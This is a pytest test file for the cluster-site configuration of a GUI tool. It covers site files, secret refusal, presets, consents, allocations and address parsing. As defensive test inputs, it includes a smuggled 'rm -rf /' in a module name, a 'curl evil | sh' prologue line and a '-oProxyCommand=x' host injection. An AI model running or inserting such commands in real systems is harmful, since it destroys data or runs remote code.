"""Sites: checked as a whole, kept as files without a secret, handed on unchanged."""

from __future__ import annotations

import stat
import tomllib
from pathlib import Path

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clew_gui.base.checked_text import is_fingerprint, is_host, is_module, is_remote_path, join_address, split_address
from clew_gui.base.times import as_clock, read_clock, read_time
from clew_gui.schedulers.allocation import (
    FIELDS,
    AllocationRequest,
    build_allocation,
    changed,
    check_allocation,
    flag,
    summary,
)
from clew_gui.schedulers.registry import scheduler_of
from clew_gui.sites.check import check_name, check_site
from clew_gui.sites.consent import Consents, words_of
from clew_gui.sites.presets import PRESETS
from clew_gui.sites.site import LOCAL, Site, address, job_of, launcher
from clew_gui.sites.site_connection import explain_write_error
from clew_gui.sites.site_fields import machine_of, site_of
from clew_gui.sites.site_file import from_table, from_toml, read_site, to_toml
from clew_gui.sites.store import SiteStore, site_store
from clew_shared.base.number_words import duration
from clew_shared.base.places import Places
from clew_shared.base.problem import ProblemError

JOB = "0f3d6c52-8f0e-4c1b-9a70-3b6a4b1f2c11"
FULL = Site(
    title="The course's cluster",
    host="login.example.org",
    user="student",
    port=2222,
    key="~/.ssh/id_ed25519",
    jump=("gate.example.org", "me@second:2200"),
    fingerprints=("SHA256:" + "A" * 43,),
    scheduler="slurm",
    gres="gpu:tesla",
    requeue=True,
    extra=("--mem=8G",),
    modules=("cuda/11.8", "python_ML"),
    prologue="source /apps/lab/env.sh\nexport LAB='a b'\n",
    python="/apps/python/3.11/bin/python3",
    venv="~/lab/venv",
    data="/course/data",
    scratch="/scratch/student",
    ports=(40000, 40999),
    note="Bring your key.\nRoom 12.",
    allocation=AllocationRequest(partition="gpu", time="02:00:00", gpus=4, reservation="day-2"),
)


def wrong(text: str) -> dict[str, str]:
    """What a site file is refused for: sentences by field."""
    with pytest.raises(ProblemError) as caught:
        from_toml(text)
    return {problem.where: str(problem) for problem in caught.value.problems}


# --- Files ------------------------------------------------------------------------------------------------------------


def test_a_site_is_read_back_as_it_was_written() -> None:
    assert check_site(FULL) == []
    (found,) = check_site(msgspec.structs.replace(FULL, gres="a b"))
    assert found.code == "site.gres"
    assert from_toml(to_toml(FULL)) == FULL


def test_a_file_names_only_what_is_special() -> None:
    table = tomllib.loads(to_toml(Site(host="login", allocation=AllocationRequest(gpus=1))))
    assert table == {"format": 1, "host": "login", "allocation": {"gpus": 1}}


def test_the_example_of_the_documentation_is_a_site() -> None:
    page = (Path(__file__).parents[3] / "docs" / "sites.md").read_text(encoding="utf-8")
    site = from_toml(page.partition("```toml\n")[2].partition("```")[0])
    assert (site.jump, site.allocation.reservation) == (("gate.example.org",), "monday")
    fields = {field.name for field in msgspec.structs.fields(Site)} - {"format", "title", "allocation"}
    assert [name for name in fields if f"`{name}`" not in page] == []
    assert [field.name for field in FIELDS if f"`{field.name}`" not in page] == []
    assert [name for name in PRESETS if f"`{name}`" not in page] == []


def test_a_file_from_windows_is_the_same_site() -> None:
    assert from_toml("\r\n".join(to_toml(FULL).split("\n"))) == FULL


def test_everything_that_is_wrong_is_told_at_once() -> None:
    found = wrong(
        """
        format = 2
        host = "a b"
        prot = 22
        port = "22"
        scheduler = "lsf"
        modules = ["cuda; rm -rf /", "ok/1"]
        data = "relative"
        ports = [5, 3]
        jump = ["user@host:99999"]
        fingerprints = ["AAAA"]
        key = "~/.ssh/id_rsa.pub"
        [allocation]
        time = "99:99:99"
        partition = "gpu --wrap=x"
        nodes = 0
        gpu = 2
        """
    )
    places = "format host prot port scheduler modules data ports jump fingerprints key allocation.gpu allocation.nodes"
    assert {*places.split(), "allocation.time", "allocation.partition"} == set(found)
    assert "Did you mean port?" in found["prot"]
    assert "Did you mean gpus?" in found["allocation.gpu"]
    assert "'slurm', 'pbs', 'mnsubmit', 'none'" in found["scheduler"]
    assert "~/.ssh/id_rsa" in found["key"]


@pytest.mark.parametrize(
    "line",
    [
        'password = "x"',
        'Passphrase = "x"',
        'otp_secret = "x"',
        'private_key = "x"',
        'api-key = "x"'.replace("-", "_"),
        '[allocation]\ntoken = "x"',
        'key = "-----BEGIN OPENSSH PRIVATE KEY-----"',
        'note = "the password: hunter22"',
        'host = "student:hunter22@login"',
        'prologue = "export WANDB_API_KEY=0123456789abcdef"',
        'prologue = "PuTTY-User-Key-File-2: ssh-rsa"',
    ],
)
def test_a_secret_is_refused_with_a_sentence_and_not_repeated(line: str) -> None:
    texts = wrong(f'host = "login"\n{line}' if not line.startswith("host") else line).values()
    assert any("must not contain secrets" in text for text in texts)
    assert not any("hunter22" in text.partition("cannot be")[0] or "0123456789" in text for text in texts)


@pytest.mark.parametrize(
    "prologue",
    [
        "source ~/.secrets",
        "export KERAS_BACKEND=tensorflow",
        "export TOKENIZERS=1",
        'export WANDB_API_KEY="$(cat ~/.key)"',
    ],
)
def test_what_only_reads_a_secret_is_taken(prologue: str) -> None:
    assert check_site(Site(host="login", prologue=prologue)) == []


def test_a_scheduler_without_a_host_and_lines_for_another_scheduler_are_refused() -> None:
    assert [found.where for found in check_site(Site(scheduler="slurm"))] == ["host"]
    assert [found.where for found in check_site(Site(host="a", scheduler="pbs", extra=("--mem=8G",)))] == ["extra"]
    assert [found.where for found in check_site(Site(user="me"))] == ["host"]


VALUES = st.recursive(
    st.text(max_size=8) | st.integers() | st.booleans() | st.floats(allow_nan=False),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)


@given(st.dictionaries(st.sampled_from([field.name for field in msgspec.structs.fields(Site)]), VALUES, max_size=5))
def test_any_values_are_a_site_or_a_refusal(table: dict[str, object]) -> None:
    try:
        assert from_toml(to_toml(from_table(table))) == from_table(table)
    except ProblemError as error:
        assert error.problems


def test_a_file_that_cannot_be_read_is_a_sentence(tmp_path: Path) -> None:
    (tmp_path / "bytes.toml").write_bytes(b"\xff\xfe")
    (tmp_path / "large.toml").write_bytes(b"#" * 300_000)
    for name in ("absent.toml", "bytes.toml", "large.toml", "."):
        with pytest.raises(ProblemError, match="Cannot read"):
            read_site(tmp_path / name)


# --- Presets ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", PRESETS)
def test_presets_are_right_but_for_the_host_that_some_leave_open(name: str) -> None:
    found = check_site(PRESETS[name])
    assert {problem.where for problem in found} <= ({"host"} if not PRESETS[name].host else set())


@pytest.mark.parametrize("name", ["minotauro", "jureca", "davide", "bluewaters"])
def test_presets_of_courses_lead_to_scripts(name: str) -> None:
    site = PRESETS[name]
    script = scheduler_of(site.scheduler).script(job_of(site, JOB, "/home/me/jobs/1", ("clew-agent", "serve")))
    expected = {
        "minotauro": ["# @ gpus_per_node = 4", "# @ features = k80", "clew_load CUDNN"],
        "jureca": ["#SBATCH --time=01:00:00"],
        "davide": ["#SBATCH --gres=gpu:tesla:1", "clew_load autoload"],
        "bluewaters": ["#PBS -l nodes=8:ppn=16:xk", "    exec aprun -q -b -n 1 -N 1 -d 16 clew-agent serve </dev/null"],
    }
    assert set(expected[name]) <= set(script.splitlines())


def test_what_reaches_the_node() -> None:
    assert launcher(Site(launch="srun"), AllocationRequest(cpus=4))[-1] == "--cpus-per-task=4"
    assert launcher(Site(), AllocationRequest(cpus=4)) == ()
    assert address(FULL) == "student@login.example.org:2222"
    assert address(Site()) == "this computer"


# --- The store --------------------------------------------------------------------------------------------------------


@pytest.fixture
def store(tmp_path: Path) -> SiteStore:
    return SiteStore(tmp_path / "config" / "sites")


@pytest.mark.unix("modes of files")
def test_a_site_is_kept_found_and_removed(store: SiteStore) -> None:
    assert store.names() == (LOCAL,)
    path = store.save("course", FULL)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert (store.names(), store.load("course")) == ((LOCAL, "course"), FULL)
    store.remove("course")
    assert store.names() == (LOCAL,)


def test_a_site_is_replaced_only_on_purpose(store: SiteStore) -> None:
    store.save("course", FULL)
    with pytest.raises(ProblemError, match="already"):
        store.save("course", Site(host="other"))
    store.save("course", Site(host="other"), replace=True)
    assert store.load("course").host == "other"


def test_a_broken_file_hides_no_other_site(store: SiteStore) -> None:
    store.save("course", FULL)
    (store.folder / "broken.toml").write_text("host = [")
    (store.folder / "No Name.toml").write_text("host = 'x'")
    named = {one.name: one for one in store.all()}
    assert list(named) == [LOCAL, "broken", "course"]
    assert named["broken"].site is None
    assert "not valid TOML" in named["broken"].problems[0].text
    assert named["course"].site == FULL


@pytest.mark.parametrize("name", ["", "../x", "a/b", "A", "a b", ".a", "-a", "x" * 41, "ä", LOCAL])
def test_what_cannot_be_a_sites_name(store: SiteStore, name: str) -> None:
    assert check_name(name)
    with pytest.raises(ProblemError):
        store.save(name, FULL)
    assert not store.folder.exists()


def test_a_site_that_is_not_there_and_this_computer(store: SiteStore) -> None:
    for act in (store.load, store.remove):
        with pytest.raises(ProblemError, match="There is no site"):
            act("nowhere")
    with pytest.raises(ProblemError, match="cannot be removed"):
        store.remove(LOCAL)
    assert store.load(LOCAL).title == "This computer"


# --- Consent ----------------------------------------------------------------------------------------------------------


def test_a_consent_is_for_exactly_this_text(tmp_path: Path) -> None:
    kept = Consents(tmp_path / "config" / "consents.toml")
    words = words_of(FULL, "nc %h %p")
    assert [one.kind for one in words] == ["prologue", "proxy command"]
    assert kept.missing(words) == words
    kept.give(words[:1])
    assert Consents(tmp_path / "config" / "consents.toml").missing(words) == words[1:]
    other = words_of(msgspec.structs.replace(FULL, prologue=FULL.prologue + "curl evil | sh\n"))
    assert kept.missing(other) == other
    assert words_of(Site(prologue=" \n")) == ()


def test_a_broken_file_of_consents_means_that_all_is_asked_again(tmp_path: Path) -> None:
    path = tmp_path / "consents.toml"
    path.write_text("consents = 7")
    assert Consents(path).missing(words_of(FULL)) == words_of(FULL)


# --- Allocations ------------------------------------------------------------------------------------------------------


def test_a_run_says_otherwise() -> None:
    asked = build_allocation(FULL.allocation, {"gpus": "1", "reservation": "day-3", "partition": "", "time": "30"})
    assert changed(FULL.allocation, asked) == {"gpus": 1, "reservation": "day-3", "partition": "", "time": "30"}
    assert summary(asked) == "1 node with 1 GPU, 30 minutes, reservation day-3"


def test_all_that_is_wrong_with_an_allocation_is_told_at_once() -> None:
    with pytest.raises(ProblemError) as caught:
        build_allocation(
            AllocationRequest(), {"gpus": "many", "time": "soon", "partition": "a b", "nodes": "0", "color": "1"}
        )
    assert {problem.where for problem in caught.value.problems} == {"gpus", "time", "partition", "nodes", "color"}


def test_fields_are_data_for_a_form_and_flags() -> None:
    assert [flag(field) for field in FIELDS] == [
        "--partition",
        "--account",
        "--reservation",
        "--qos",
        "--time",
        "--nodes",
        "--gpus",
        "--cpus",
        "--features",
    ]
    assert all(field.label and field.help for field in FIELDS)


@settings(max_examples=50)
@given(st.text(max_size=20), st.sampled_from(["partition", "account", "reservation", "qos", "features"]))
def test_names_that_pass_are_one_word(text: str, field: str) -> None:
    if not check_allocation(AllocationRequest(**{field: text})):  # type: ignore[arg-type]
        assert text == "" or (len(text.split()) == 1 and text.isascii() and not set(text) & set("'\"\\`$;<>#\n"))


NO_TIMES = ("", "0", "x", "-5", "1:60", "1:2:3:4", "1-24", "2 hours", "999999", "٣", "1e3", "400d")

# --- Times and names --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("30", 1800),
        ("30:00", 1800),
        ("02:00:00", 7200),
        ("2:0:0", 7200),
        ("1-12", 129600),
        ("1-00:30", 88200),
        ("1-00:00:00", 86400),
        ("100:00:00", 360000),
        ("90 min", 5400),
        ("2h", 7200),
        ("1d", 86400),
        ("45 s", 45),
        *((text, None) for text in NO_TIMES),
    ],
)
def test_times(text: str, seconds: int | None) -> None:
    assert read_time(text) == seconds


@given(st.integers(1, 366 * 86400))
def test_a_time_is_read_back(seconds: int) -> None:
    assert read_time(as_clock(seconds)) == read_clock(as_clock(seconds)) == seconds


@given(st.text(max_size=30))
def test_any_text_is_a_time_or_not(text: str) -> None:
    assert (read_time(text) or 1) > 0
    assert (read_clock(text) or 0) >= 0


def test_times_in_words() -> None:
    words = {
        60: "1 minute",
        90: "90 seconds",
        120: "2 minutes",
        5400: "1 hour 30 minutes",
        86400: "1 day",
        1: "1 second",
        25.4: "25 seconds",
        2694: "45 minutes",
    }
    assert {seconds: duration(seconds) for seconds in words} == words


_ADDRESSES = {
    "gate": ("", "gate", 0),
    "u@gate:22": ("u", "gate", 22),
    "u@site@gate": ("u@site", "gate", 0),
    "::1": ("", "::1", 0),
    "u@fd77::1": ("u", "fd77::1", 0),
    "[::1]:22": ("", "::1", 22),
    "u@[fe80::1%eth0]:2206": ("u", "fe80::1%eth0", 2206),
    "[::ffff:10.0.0.7]:22": ("", "::ffff:10.0.0.7", 22),
    "10.0.0.7:22": ("", "10.0.0.7", 22),
}


@pytest.mark.parametrize("text", _ADDRESSES)
def test_an_address_is_written_as_it_is_read(text: str) -> None:
    parts = _ADDRESSES[text]
    assert split_address(text) == split_address(f" ssh://{text}") == parts
    assert join_address(*parts) == text


def test_brackets_may_be_there_without_a_port() -> None:
    assert split_address("[fd77::1]") == ("", "fd77::1", 0)
    assert split_address("me@[fd77::1]") == ("me", "fd77::1", 0)


@pytest.mark.parametrize(
    "text",
    ["", "a b", "h:0", "h:x", "h:", "h:65536", "-J@x", "@h", "a@b@c d", "[::1", "::1]", "[]:22", "[a b]", "[::1]22"],
)
def test_what_is_no_address(text: str) -> None:
    assert split_address(text) is None


@pytest.mark.parametrize("text", ["u:word@h", "[[::1]]", "fd77::1:2206:x", ":" * 100_000, "@" * 100_000])
def test_what_is_nearly_an_address(text: str) -> None:
    assert split_address(text) is None


@pytest.mark.parametrize("host", ["[fd77::1]", "fd77::1", "ssh://[fd77::1]"])
def test_a_host_in_a_file_may_be_an_address_as_a_terminal_has_it(host: str) -> None:
    assert from_toml(f'host = "{host}"') == Site(host="fd77::1")
    site = from_toml(f'host = "{host}"\nuser = "me"\nport = 2206\njump = ["ssh://u@gate", "a@[fd77::2]:23"]')
    assert (site.host, address(site)) == ("fd77::1", "me@[fd77::1]:2206")
    assert from_toml(to_toml(site)) == site


def test_hosts_hops_and_the_rest() -> None:
    good = ["login", "login.example.org", "10.0.0.7", "fe80::1%eth0", "::1", "mt1.bsc.es", "node-1"]
    bad = ["", "a b", "-oProxyCommand=x", "a..b", "a;b", "*.org", "a/b", "x" * 300, "user@host"]
    assert [host for host in good + bad if is_host(host)] == good
    assert is_module("Python/3.11.3-GCCcore-12.3.0")
    assert not any(is_module(text) for text in ["", "-x", "a b", "a;b", "$(x)", "../x", "a\n"])
    assert is_remote_path("~/lab/a b")
    assert not any(is_remote_path(text) for text in ["", "a", "/a/../b", "/a\nb", "~other/x"])
    assert is_fingerprint("SHA256:" + "a" * 43)
    assert not is_fingerprint("SHA256:short")


@pytest.mark.unix("XDG_CONFIG_DIRS")
def test_sites_for_all_users_of_a_computer_are_read_and_never_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    common = tmp_path / "xdg/clew/sites"
    SiteStore(common).save("course", Site(host="login.example.org"))
    SiteStore(common).save("other", Site(host="other.example.org"))
    before = (common / "course.toml").read_bytes()
    monkeypatch.setenv("XDG_CONFIG_DIRS", str(tmp_path / "xdg"))
    store = site_store(Places(home=tmp_path / "mine", private=tmp_path / "run"))
    assert store.names() == ("local", "course", "other")
    assert store.load("course").host == "login.example.org"
    with pytest.raises(ProblemError, match="cannot be removed from here"):
        store.remove("course")
    with pytest.raises(ProblemError, match="already"):
        store.save("course", Site(host="mine.example.org"))
    store.save("course", Site(host="mine.example.org"), replace=True)
    assert (store.load("course").host, store.names()) == ("mine.example.org", ("local", "course", "other"))
    store.remove("course")
    assert store.load("course").host == "login.example.org"
    assert (common / "course.toml").read_bytes() == before


@pytest.mark.parametrize("written", ["[41000, 41001]", '["41000-41001"]', '"41000 - 41001"'])
def test_ports_are_read_as_a_range_also_where_they_are_a_text(written: str) -> None:
    assert from_toml(f'format = 1\nhost = "h"\nports = {written}\n').ports == (41000, 41001)


def test_ports_that_are_none_are_refused_with_how_to_write_them() -> None:
    with pytest.raises(ProblemError, match=r"ports must be two numbers in \[ \], such as \[40000, 40999\], got 'many'"):
        from_toml('format = 1\nhost = "h"\nports = "many"\n')


@pytest.mark.parametrize(
    ("said", "text"),
    [
        ("mkdir: cannot create directory: Read-only file system", "lies on a file system that is read-only here"),
        ("mkdir: No space left on device", "not a byte can be written to /home/me/clew on Lab"),
        ("mkdir: Disk quota exceeded", "nothing more can be written to /home/me/clew on Lab"),
        ("mkdir: Permission denied\n", "/home/me/clew on Lab cannot be written: mkdir: Permission denied."),
    ],
)
def test_a_folder_that_cannot_be_written_is_named_with_the_cause(said: str, text: str) -> None:
    found = explain_write_error("/home/me/clew", said, "Lab")
    assert text in found.text
    assert "full" not in found.hint


@pytest.mark.parametrize(
    ("typed", "found"),
    [
        ({"host": "student@login.example.org:2222"}, ("login.example.org", "student", 2222)),
        ({"host": "login.example.org:22", "user": "ada"}, ("login.example.org", "ada", 22)),
        ({"host": "ada@cave", "user": "ada"}, ("cave", "ada", None)),
        ({"host": "ada@cave", "user": "ben"}, ("ada@cave", "ben", None)),
        ({"host": "cave"}, ("cave", "", None)),
        ({"host": "[fd77::1]"}, ("fd77::1", "", None)),
        ({"host": "student@[fd77::1]:2206"}, ("fd77::1", "student", 2206)),
        ({"host": "ssh://student@fe80::1%eth0"}, ("fe80::1%eth0", "student", None)),
        ({"host": "cave:2206", "port": "22"}, ("cave:2206", "", 22)),
    ],
)
def test_an_address_as_a_terminal_has_it_is_understood_where_nothing_else_was_said(
    typed: dict[str, str], found: tuple[str, str, int | None]
) -> None:
    site, _ = site_of(typed)
    assert (site.host, site.user, site.port or None) == found


@pytest.mark.parametrize(
    ("host", "name"),
    [
        ("login03.juwels.fz-juelich.de", "juwels"),
        ("login.leonardo.cineca.it", "leonardo"),
        ("mt1.bsc.es", "mt1"),
        ("cave", "cave"),
        ("10.0.0.7", "10.0.0.7"),
        ("login1.de", "login1"),
    ],
)
def test_a_host_is_called_by_its_machine(host: str, name: str) -> None:
    assert machine_of(host) == name
